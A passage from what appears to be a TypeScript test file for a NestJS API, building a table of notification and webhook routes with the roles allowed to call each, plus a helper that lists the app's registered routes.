 * notification nobody has (404), bodies that are invalid (400), a webhook that was never registered.
 */
function notificationCases(): Case[] {
  const me = '/api/me';
  const org = '/api/organizations/:organization';
  const setters: Who[] = ['director', 'planner', 'otherDirector', 'otherPlanner'];
  return [
    { method: 'get', route: `${me}/notifications`, url: `${me}/notifications?unread=true`, allowed: SIGNED_IN },
    {
      method: 'post',
      route: `${me}/notifications/:id/read`,
      url: `${me}/notifications/${'0'.repeat(64)}/read`,
      allowed: SIGNED_IN,
    },
    // Marks the caller's own notifications read: none of the snapshot's rows, and no one else's.
    { method: 'post', route: `${me}/notifications/read-all`, url: `${me}/notifications/read-all`, allowed: SIGNED_IN },
    {
      method: 'get',
      route: `${me}/notification-preferences`,
      url: `${me}/notification-preferences`,
      allowed: SIGNED_IN,
    },
    {
      method: 'put',
      route: `${me}/notification-preferences`,
      url: `${me}/notification-preferences`,
      body: { language: 'fr', digestHour: 8, emailKinds: [] },
      allowed: SIGNED_IN,
    },
    ...(['TCEB', 'TEST-ORG'] as const).flatMap((code): Case[] => {
      const allowed = setters.filter((w) => (code === 'TCEB') === !w.startsWith('other'));
      const base = `/api/organizations/${code}`;
      return [
        { method: 'get', route: `${org}/notification-settings`, url: `${base}/notification-settings`, allowed },
        {
          method: 'put',
          route: `${org}/notification-settings`,
          url: `${base}/notification-settings`,
          body: { reminderDays: [0] },
          allowed,
        },
        { method: 'put', route: `${org}/webhook`, url: `${base}/webhook`, body: { url: 'ftp://x' }, allowed },
        { method: 'delete', route: `${org}/webhook`, url: `${base}/webhook`, allowed },
      ];
    }),
  ];
}

function routesOf(app: INestApplication): string[] {
  const instance = app.getHttpAdapter().getInstance();
  const stack: any[] = (instance.router ?? instance._router)?.stack ?? [];
  return stack
    .filter((l) => l.route)
    .flatMap((l) =>
      Object.keys(l.route.methods)
        .filter((m) => m !== '_all')
        .map((m) => `${m.toUpperCase()} ${l.route.path}`),
    );
}
